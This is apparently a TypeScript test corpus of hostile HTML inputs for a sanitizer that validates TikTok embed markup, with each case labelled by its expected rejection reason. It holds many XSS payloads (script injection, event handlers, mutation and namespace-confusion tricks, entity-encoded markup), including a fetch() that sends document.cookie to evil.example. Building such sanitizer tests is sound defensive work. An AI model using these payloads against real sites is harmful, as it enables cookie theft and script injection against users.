import type { SanitizerRejectionReason } from "../reasons";
import { BASE_PARTS, buildEmbedHtml, buildPayload, EMBED_SCRIPT, type HostileCase, place } from "./build";

const id = BASE_PARTS.videoId;
const base = buildEmbedHtml(BASE_PARTS);
const v = (name: string, payload: unknown, reason: SanitizerRejectionReason): HostileCase => ({
  name,
  payload,
  reason,
});

/** Markup attacks: scripts, styles, handlers, foreign elements, comments, hidden markup, broken structure. */
export const HOSTILE_HTML_CORPUS: readonly HostileCase[] = [
  // Scripts other than TikTok's own embed.js
  v("inline script in the caption", place.caption("<script>alert(1)</script>"), "script_tag"),
  v(
    "uppercase script from a tiktok.com path",
    place.trailer("<SCRIPT SRC=https://www.tiktok.com/evil.js></SCRIPT>"),
    "script_tag",
  ),
  v(
    "embed.js src with inline code",
    place.trailer('<script src="https://www.tiktok.com/embed.js">alert(1)</script>'),
    "script_tag",
  ),
  v(
    "embed.js on a lookalike host",
    place.trailer('<script async src="https://www.tiktok.com.evil.example/embed.js"></script>'),
    "script_tag",
  ),
  v(
    "protocol-relative embed.js",
    place.trailer('<script async src="//www.tiktok.com/embed.js"></script>'),
    "script_tag",
  ),
  v("embed.js over http", place.trailer('<script async src="http://www.tiktok.com/embed.js"></script>'), "script_tag"),
  v(
    "embed.js with a query string",
    place.trailer('<script async src="https://www.tiktok.com/embed.js?cb=x"></script>'),
    "script_tag",
  ),
  v("embed.js twice", place.trailer(EMBED_SCRIPT + EMBED_SCRIPT), "script_tag"),
  v("embed.js inside the blockquote", place.caption(EMBED_SCRIPT), "script_tag"),
  v(
    "embed.js with integrity and crossorigin",
    place.trailer(
      '<script async src="https://www.tiktok.com/embed.js" crossorigin="anonymous" integrity="sha256-x"></script>',
    ),
    "script_tag",
  ),
  v(
    "embed.js as a module",
    place.trailer('<script type="module" src="https://www.tiktok.com/embed.js"></script>'),
    "script_tag",
  ),
  v(
    "self-closed embed.js swallowing code",
    place.trailer('<script src="https://www.tiktok.com/embed.js"/>alert(1)//</script>'),
    "script_tag",
  ),
  v(
    "script without src",
    place.trailer("<script>fetch('https://evil.example/?c='+document.cookie)</script>"),
    "script_tag",
  ),
  v("script with a data URL", place.trailer('<script src="data:text/javascript,alert(1)"></script>'), "script_tag"),
  // Styles
  v(
    "style element with a javascript url",
    place.caption("<style>body{background:url(javascript:alert(1))}</style>"),
    "style_tag",
  ),
  v("style element with @import", place.trailer("<style>@import 'https://evil.example/x.css';</style>"), "style_tag"),
  v(
    "uppercase style element",
    place.caption('<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE>'),
    "style_tag",
  ),
  v("style element carrying onload", place.caption("<style/onload=alert(1)>"), "style_tag"),
  // Inline event handlers
  v("img onerror", place.caption("<img src=x onerror=alert(1)>"), "event_handler"),
  v(
    "onclick on a tag link",
    place.caption('<a href="https://www.tiktok.com/tag/x" onclick="alert(1)">x</a>'),
    "event_handler",
  ),
  v("onmouseover on the blockquote", place.blockquote('onmouseover="alert(1)"'), "event_handler"),
  v("onfocus with autofocus", place.caption("<a title=x onfocus=alert(1) autofocus>x</a>"), "event_handler"),
  v(
    "slash-separated attributes",
    place.caption("<a/onclick=alert(1) href=https://www.tiktok.com/tag/x>x</a>"),
    "event_handler",
  ),
  v(
    "unquoted handler",
    place.caption("<a href=https://www.tiktok.com/tag/x onmouseover=alert(1)>x</a>"),
    "event_handler",
  ),
  v(
    "uppercase handler name",
    place.caption('<a href="https://www.tiktok.com/tag/x" ONCLICK="alert(1)">x</a>'),
    "event_handler",
  ),
  v(
    "handler after a newline",
    place.caption('<a href="https://www.tiktok.com/tag/x"\nonclick="alert(1)">x</a>'),
    "event_handler",
  ),
  v(
    "handler glued to a quoted value",
    place.caption('<a href="https://www.tiktok.com/tag/x" title="x"onclick="alert(1)">x</a>'),
    "event_handler",
  ),
  v("svg onload", place.caption("<svg/onload=alert(1)>"), "event_handler"),
  v("body onload", place.trailer("<body onload=alert(1)>"), "event_handler"),
  v("details ontoggle", place.caption("<details open ontoggle=alert(1)>"), "event_handler"),
  v("video onerror", place.caption("<video src=x onerror=alert(1)></video>"), "event_handler"),
  v("marquee onstart", place.caption("<marquee onstart=alert(1)>x</marquee>"), "event_handler"),
  v(
    "onload on the embed.js script",
    place.trailer('<script async src="https://www.tiktok.com/embed.js" onload="alert(1)"></script>'),
    "event_handler",
  ),
  v("quote confusion before a handler", place.caption("<a title='\"' onclick=alert(1)>x</a>"), "event_handler"),
  v(
    "tag opened inside an attribute list",
    place.caption('<a href="https://www.tiktok.com/tag/x"<img src=x onerror=alert(1)>>x</a>'),
    "event_handler",
  ),
  // Elements outside the allowlist
  v("iframe to another host", place.caption('<iframe src="https://evil.example"></iframe>'), "disallowed_element"),
  v(
    "iframe srcdoc",
    place.caption('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    "disallowed_element",
  ),
  v("object data", place.caption('<object data="https://evil.example/x.swf"></object>'), "disallowed_element"),
  v("embed element", place.caption('<embed src="https://evil.example/x.swf">'), "disallowed_element"),
  v(
    "form posting elsewhere",
    place.caption('<form action="https://evil.example"><input name=q></form>'),
    "disallowed_element",
  ),
  v(
    "svg animate rewriting href",
    place.caption("<svg><animate attributeName=href values=javascript:alert(1) /></svg>"),
    "disallowed_element",
  ),
  v("script inside svg", place.caption("<svg><script>alert(1)</script></svg>"), "disallowed_element"),
  v(
    "mathml namespace confusion",
    place.caption("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    "disallowed_element",
  ),
  v(
    "mathml xlink:href",
    place.caption('<math><mi xlink:href="javascript:alert(1)">x</mi></math>'),
    "disallowed_element",
  ),
  v(
    "noscript mutation",
    place.caption('<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    "disallowed_element",
  ),
  v("base href", place.caption('<base href="https://evil.example/">'), "disallowed_element"),
  v(
    "meta refresh",
    place.caption('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    "disallowed_element",
  ),
  v(
    "stylesheet link",
    place.caption('<link rel="stylesheet" href="https://evil.example/x.css">'),
    "disallowed_element",
  ),
  v("image even from tiktok.com", place.caption('<img src="https://www.tiktok.com/x.png">'), "disallowed_element"),
  v("template hiding markup", place.caption("<template><img src=x onerror=alert(1)></template>"), "disallowed_element"),
  v("textarea raw text", place.caption("<textarea><img src=x onerror=alert(1)></textarea>"), "disallowed_element"),
  v("xmp raw text", place.caption("<xmp><img src=x onerror=alert(1)></xmp>"), "disallowed_element"),
  v("plain div", place.caption("<div>x</div>"), "disallowed_element"),
  v("applet", place.caption("<applet code=x.class></applet>"), "disallowed_element"),
  v("NUL inside a tag name", place.caption("<scr\u0000ipt>alert(1)</scr\u0000ipt>"), "disallowed_element"),
  v("tag split by a nested tag", place.caption("<scr<script>ipt>alert(1)</script>"), "disallowed_element"),
  // Attributes that are never TikTok's
  v("xmlns on the blockquote", place.blockquote('xmlns="http://www.w3.org/2000/svg"'), "disallowed_attribute"),
  v(
    "srcdoc on a link",
    place.caption('<a href="https://www.tiktok.com/tag/x" srcdoc="x">x</a>'),
    "disallowed_attribute",
  ),
  v(
    "formaction on a link",
    place.caption('<a href="https://www.tiktok.com/tag/x" formaction="https://evil.example">x</a>'),
    "disallowed_attribute",
  ),
  v(
    "ping on a link",
    place.caption('<a href="https://www.tiktok.com/tag/x" ping="https://evil.example/t">x</a>'),
    "disallowed_attribute",
  ),
  v("custom element upgrade", place.blockquote('is="x-evil"'), "disallowed_attribute"),
  v(
    "background on the blockquote",
    place.blockquote('background="https://evil.example/x.png"'),
    "disallowed_attribute",
  ),
  v("xlink:href on a link", place.caption('<a xlink:href="https://evil.example">x</a>'), "disallowed_attribute"),
  v(
    "data-src on a link",
    place.caption('<a title="x" data-src="https://evil.example/x">x</a>'),
    "disallowed_attribute",
  ),
  v("contenteditable on a link", place.caption("<a title=x contenteditable>x</a>"), "disallowed_attribute"),
  v(
    "duplicate href",
    place.caption('<a href="https://www.tiktok.com/tag/x" href="https://evil.example">x</a>'),
    "duplicate_attribute",
  ),
  v("duplicate data-video-id", place.blockquote('data-video-id="1"'), "duplicate_attribute"),
  // Comments and declarations
  v("comment hiding markup", place.caption("<!-- <img src=x onerror=alert(1)> -->"), "disallowed_markup"),
  v("CDATA section", place.caption("<![CDATA[<script>alert(1)</script>]]>"), "disallowed_markup"),
  v("xml processing instruction", place.html(`<?xml version="1.0"?>${base}`), "disallowed_markup"),
  v("doctype", place.html(`<!DOCTYPE html>${base}`), "disallowed_markup"),
  v("conditional comment", place.caption("<!--[if IE]><script>alert(1)</script><![endif]-->"), "disallowed_markup"),
  v("bogus end tag comment", place.caption("</ p><img src=x onerror=alert(1)>"), "disallowed_markup"),
  // Markup spelled with entities
  v("entity-encoded img", place.caption("&lt;img src=x onerror=alert(1)&gt;"), "encoded_markup"),
  v("numeric-entity script", place.caption("&#60;script&#62;alert(1)&#60;/script&#62;"), "encoded_markup"),
  v("entity without semicolon", place.caption("&ltsvg/onload=alert(1)&gt"), "encoded_markup"),
  v(
    "encoded markup in a title",
    place.caption('<a title="&lt;img src=x onerror=alert(1)&gt;">x</a>'),
    "encoded_markup",
  ),
  v(
    "raw markup in a quoted title",
    place.caption('<a title="</a><img src=x onerror=alert(1)>">x</a>'),
    "encoded_markup",
  ),
  v("markup in data-embed-from", buildPayload({ ...BASE_PARTS, embedFrom: "&lt;script&gt;" }), "encoded_markup"),
  // Structure
  v("no blockquote", place.html("<p>hello</p>"), "invalid_embed_structure"),
  v(
    "blockquote without the embed class",
    place.html(base.replace('class="tiktok-embed"', 'class="quote"')),
    "invalid_embed_structure",
  ),
  v("two blockquotes", place.html(base.replace(EMBED_SCRIPT, "") + base), "invalid_embed_structure"),
  v("text before the blockquote", place.html(`Click here ${base}`), "invalid_embed_structure"),
  v("unclosed blockquote", place.html(base.slice(0, base.indexOf("</section>"))), "invalid_embed_structure"),
  v("link inside a link", place.caption('<a title="x">a <a title="y">b</a></a>'), "invalid_embed_structure"),
  v("blockquote without cite", place.html(base.replace(/ cite="[^"]*"/, "")), "invalid_embed_structure"),
  v("whitespace-only html", place.html("   "), "invalid_embed_structure"),
  v(
    "blockquote after the script",
    place.html(EMBED_SCRIPT + base.replace(EMBED_SCRIPT, "")),
    "invalid_embed_structure",
  ),
  v("text after the script", place.trailer(`${EMBED_SCRIPT} more`), "invalid_embed_structure"),
  v("section outside the blockquote", place.trailer("<section>x</section>"), "invalid_embed_structure"),
  v("missing data-video-id", place.html(base.replace(` data-video-id="${id}"`, "")), "invalid_embed_structure"),
  // Video identity
  v(
    "data-video-id of another video",
    place.html(base.replace(`data-video-id="${id}"`, 'data-video-id="7000000000000000000"')),
    "video_id_mismatch",
  ),
  v(
    "cite of another video",
    place.cite("https://www.tiktok.com/@corpus.creator/video/7000000000000000000"),
    "video_id_mismatch",
  ),
  v(
    "padded data-video-id",
    place.html(base.replace(`data-video-id="${id}"`, `data-video-id=" ${id}"`)),
    "video_id_mismatch",
  ),
  // Size
  v("oversized html", place.caption("x".repeat(25_000)), "html_too_large"),
];
